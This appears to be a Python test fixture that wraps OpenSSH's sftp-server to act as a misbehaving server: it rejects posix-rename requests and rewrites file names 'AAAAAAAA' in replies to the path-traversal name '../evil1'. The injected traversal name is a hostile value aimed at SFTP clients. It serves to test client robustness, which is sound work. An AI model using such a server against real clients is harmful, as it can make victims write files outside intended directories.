"""An SFTP server that is not as it should be: OpenSSH's own, but it cannot replace a file by
renaming another one (posix-rename@openssh.com), and calls files named AAAAAAAA "../evil1"."""
import struct
import subprocess
import sys
import threading

EXTENDED, STATUS, UNSUPPORTED = 200, 101, 8

server = subprocess.Popen(["/usr/lib/openssh/sftp-server"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
lock = threading.Lock()


def packet(stream):
    head = stream.read(4)
    if len(head) < 4:
        return None
    return stream.read(struct.unpack(">I", head)[0])


def send(stream, body):
    stream.write(struct.pack(">I", len(body)) + body)
    stream.flush()


def pass_answers():
    while (body := packet(server.stdout)) is not None:
        with lock:
            send(sys.stdout.buffer, body.replace(b"AAAAAAAA", b"../evil1"))


threading.Thread(target=pass_answers, daemon=True).start()
while (body := packet(sys.stdin.buffer)) is not None:
    if body[0] == EXTENDED and b"posix-rename@openssh.com" in body:
        number = body[1:5]
        with lock:
            send(sys.stdout.buffer, bytes([STATUS]) + number + struct.pack(">III", UNSUPPORTED, 0, 0))
    else:
        send(server.stdin, body)
server.kill()
